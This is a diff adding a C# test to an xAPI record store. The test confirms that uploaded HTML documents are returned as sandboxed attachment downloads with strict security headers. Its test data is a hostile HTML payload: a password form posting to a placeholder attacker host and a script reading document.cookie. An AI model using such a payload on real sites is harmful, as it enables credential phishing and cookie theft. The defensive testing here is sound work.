@@ -68,6 +68,30 @@ public abstract class DocumentResourceTests(GuildApp app)
         Assert.Equal("application/octet-stream", get.Content.Headers.ContentType!.MediaType);
     }
 
+    [Theory]
+    [InlineData("/xapi/activities/state?activityId=http%3A%2F%2Fexample.com%2Fcourse&agent={agent}&stateId=page")]
+    [InlineData("/xapi/activities/profile?activityId=http%3A%2F%2Fexample.com%2F{unique}&profileId=page")]
+    [InlineData("/xapi/agents/profile?agent={agent}&profileId=page")]
+    public async Task A_stored_html_document_is_served_as_a_sandboxed_download_never_as_a_guild_page(string template)
+    {
+        using var lrs = await app.CreateLrsClientAsync();
+        var unique = Unique("html");
+        var path = template.Replace("{agent}", AgentJson(unique), StringComparison.Ordinal).Replace("{unique}", unique, StringComparison.Ordinal);
+        const string html = "<!doctype html><form action=\"https://evil.example/\"><input name=password></form><script>alert(document.cookie)</script>";
+        using (var put = await SendAsync(lrs, HttpMethod.Put, path, new StringContent(html, Encoding.UTF8, "text/html"), ifNoneMatch: "*"))
+        {
+            Assert.Equal(HttpStatusCode.NoContent, put.StatusCode);
+        }
+        using var get = await lrs.Http.GetAsync(path);
+        Assert.Equal(HttpStatusCode.OK, get.StatusCode);
+        Assert.Equal(html, await get.Content.ReadAsStringAsync()); // the bytes as stored: only how a browser treats them changes
+        Assert.Equal("attachment", get.Content.Headers.ContentDisposition?.DispositionType);
+        var policy = get.Headers.GetValues("Content-Security-Policy").Single();
+        Assert.Contains("sandbox", policy.Split(';', StringSplitOptions.TrimEntries));
+        Assert.Contains("default-src 'none'", policy, StringComparison.Ordinal);
+        Assert.Equal("nosniff", get.Headers.GetValues("X-Content-Type-Options").Single());
+    }
+
     [Fact]
     public async Task Post_merges_top_level_properties_of_json_objects()
     {
